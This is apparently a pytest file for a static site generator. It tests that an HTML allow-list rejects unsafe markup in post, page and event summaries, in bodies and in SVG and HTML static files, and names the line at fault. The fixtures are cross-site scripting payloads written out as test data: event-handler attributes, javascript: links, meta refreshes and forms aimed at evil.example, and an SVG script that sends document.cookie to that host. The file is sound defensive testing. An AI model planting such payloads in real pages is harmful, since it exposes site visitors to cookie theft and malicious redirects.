"""Every field that reaches a page as HTML (bodies of posts, pages and events,
summaries, any field Pelican renders as Markdown) passes the same allow-list,
in real builds, with the line of the source file named."""

import lxml.html
import pytest

from coproweek.problems import BuildFailed
from sitekit.build import build_site
from tests.test_content_errors import GOOD_POST, build_report, make_content

PAGE = """Title: Partners
Summary: Who we work with.

Our partners.
"""
EVENT = """title: Safe event
start: 2018-07-03 10:00
end: 2018-07-03 12:00
attendance: online
joining-link: https://www.scie.org.uk/join
summary: A <script>alert(1)</script> summary is shown as text on event pages.

Body.
"""


def with_summary(summary: str, title: str = "A good post") -> str:
    return GOOD_POST.replace("Tags: co-production\n", f"Tags: co-production\nSummary: {summary}\n").replace(
        "A good post", title)


@pytest.mark.parametrize("summary, expected", [
    ("Hello <script src='/images/x.js'></script>", "in the summary line, the <script> element would run code"),
    ("Hello <img src='/images/a.jpg' alt='' onerror='alert(1)'>", "in the summary line, the HTML attribute onerror="),
    ("[Read on](javascript:alert(1))", "in the summary line, a link or source starts with 'javascript:'"),
    ("Hello <meta http-equiv='refresh' content='0;url=https://evil.example/'>", "in the summary line, the <meta> element"),
    ("Hello *there*{: onmouseover='alert(1)' }", "in the summary line, the HTML attribute onmouseover="),
    ("<form action='https://evil.example/'><input name='q'></form>", "in the summary line, the <form> element"),
])
def test_unsafe_summaries_of_posts_fail_on_the_summary_line(tmp_path, summary, expected):
    report = build_report(tmp_path, {"good.md": GOOD_POST, "summary.md": with_summary(summary, "Other")})
    assert f"content/blog/summary.md, line 5: {expected}" in report, report


def test_unsafe_summary_of_a_page_fails_too(tmp_path):
    content = make_content(tmp_path, {"good.md": GOOD_POST})
    (content / "pages" / "partners.md").write_text(
        PAGE.replace("Who we work with.", "Who we <a href='vbscript:x'>work</a> with."), encoding="utf-8")
    with pytest.raises(BuildFailed) as failure:
        build_site(content, tmp_path / "output", SITE_NOW="2018-06-20")
    assert "content/pages/partners.md, line 2: in the summary line, a link or source starts with 'vbscript:'" \
        in failure.value.report


def test_body_problem_is_named_on_the_body_line_not_the_summary_line(tmp_path):
    post = with_summary("Mentions the `<style>` tag in words.").replace(
        "Text.", "Intro.\n\n<style>p { display: none }</style>\n")
    report = build_report(tmp_path, {"s.md": post})
    assert "content/blog/s.md, line 9: the <style> element would restyle the whole page" in report
    assert "line 5" not in report


@pytest.mark.parametrize("body, line, expected", [
    ("<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">", 8, "the <meta> element can send visitors"),
    ("<base href=\"https://evil.example/\">", 8, "the <base> element would change where every link"),
    ("<form action=\"https://evil.example/\">\n<input name=\"email\">\n</form>", 8, "the <form> element would send"),
    ("<p>ok</p>\n\n<body onload=\"alert(1)\">", 10, "a <body> tag belongs to the page itself"),
    ("<object data=\"/images/x.swf\"></object>", 8, "the <object> element embeds"),
])
def test_body_html_outside_the_allow_list_names_line_and_fix(tmp_path, body, line, expected):
    report = build_report(tmp_path, {"b.md": GOOD_POST.replace("Text.", f"Intro.\n\n{body}\n")})
    assert f"content/blog/b.md, line {line}: {expected}" in report, report
    assert "How to fix it: remove" in report or "How to fix it: link" in report


def test_safe_summaries_are_printed_as_html_on_every_list_page(tmp_path):
    content = make_content(tmp_path, {"good.md": with_summary("A *safe* summary with [a link](https://www.scie.org.uk/).")})
    build_site(content, tmp_path / "output", SITE_NOW="2018-06-20")
    output = tmp_path / "output"
    for page in ("blog/index.html", "tags/co-production/index.html", "authors/pete-fleischmann/index.html", "index.html"):
        root = lxml.html.parse(str(output / page)).getroot()
        summaries = root.xpath("//div[@class='post-summary__text']")
        assert summaries, page
        assert summaries[0].find(".//em").text == "safe"
        assert summaries[0].find(".//a").get("rel") == "noopener"


def test_event_bodies_are_checked_and_event_summaries_are_text(tmp_path):
    from plugins.events.tests.site_build import plugins_with_events

    content = make_content(tmp_path, {"good.md": GOOD_POST})
    events = content / "events"
    events.mkdir()
    (events / "safe-event.md").write_text(EVENT, encoding="utf-8")
    build_site(content, tmp_path / "output", SITE_NOW="2018-06-20", PLUGINS=plugins_with_events())
    page = (tmp_path / "output" / "events" / "safe-event" / "index.html").read_text(encoding="utf-8")
    assert "A &lt;script&gt;alert(1)&lt;/script&gt; summary" in page
    (events / "safe-event.md").write_text(EVENT.replace("Body.", "Body.\n\n<iframe srcdoc=\"x\"></iframe>"),
                                          encoding="utf-8")
    with pytest.raises(BuildFailed) as failure:
        build_site(content, tmp_path / "output2", SITE_NOW="2018-06-20", PLUGINS=plugins_with_events())
    assert "content/events/safe-event.md, line 10: the attribute srcdoc= is not one a <iframe> may have" \
        in failure.value.report


SVG_WITH_SCRIPT = """<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
  <rect width="10" height="10"/>
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
</svg>
"""
CLEAN_SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>Square</title><rect width="10" height="10"/></svg>'


def test_static_files_that_carry_code_fail_the_build_with_their_line(tmp_path):
    content = make_content(tmp_path, {"good.md": GOOD_POST})
    images = content / "images"
    images.mkdir()
    (images / "logo.svg").write_text(SVG_WITH_SCRIPT, encoding="utf-8")
    (images / "badge.svg").write_text(CLEAN_SVG.replace("<rect", '<rect onmouseover="alert(1)"'), encoding="utf-8")
    (images / "x.js").write_text("alert(document.domain)", encoding="utf-8")
    (content / "extra").mkdir()
    (content / "extra" / "offer.html").write_text(
        "<!DOCTYPE html>\n<html><head>\n<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\n"
        "</head><body><p>Moved</p></body></html>\n", encoding="utf-8")
    with pytest.raises(BuildFailed) as failure:
        build_site(content, tmp_path / "output", SITE_NOW="2018-06-20")
    report = failure.value.report
    assert "content/images/logo.svg, line 4: the <script> element runs code." in report
    assert "content/images/badge.svg, line 1: the attribute onmouseover= on <rect> runs code." in report
    assert "content/images/x.js: a '.js' file can run code" in report
    assert "content/extra/offer.html, line 3: the <meta> in its head is not allowed" in report
    assert not (tmp_path / "output").exists()


def test_a_clean_svg_is_published_as_it_is(tmp_path):
    content = make_content(tmp_path, {"good.md": GOOD_POST.replace("Text.", "![A square](/images/square.svg)")})
    (content / "images").mkdir()
    (content / "images" / "square.svg").write_text(CLEAN_SVG, encoding="utf-8")
    build_site(content, tmp_path / "output", SITE_NOW="2018-06-20")
    assert (tmp_path / "output" / "images" / "square.svg").read_text(encoding="utf-8") == CLEAN_SVG


def test_a_broken_link_in_a_summary_is_blamed_on_the_post_not_the_theme(tmp_path):
    post = with_summary("See [the old page](/no-such-page/).")
    content = make_content(tmp_path, {"good.md": post})
    with pytest.raises(BuildFailed) as failure:
        build_site(content, tmp_path / "output", SITE_NOW="2018-06-20")
    report = failure.value.report
    assert "from the theme" not in report
    assert "content/blog/good.md, line 5: the link '/no-such-page/' on the page /blog/index.html is broken" in report
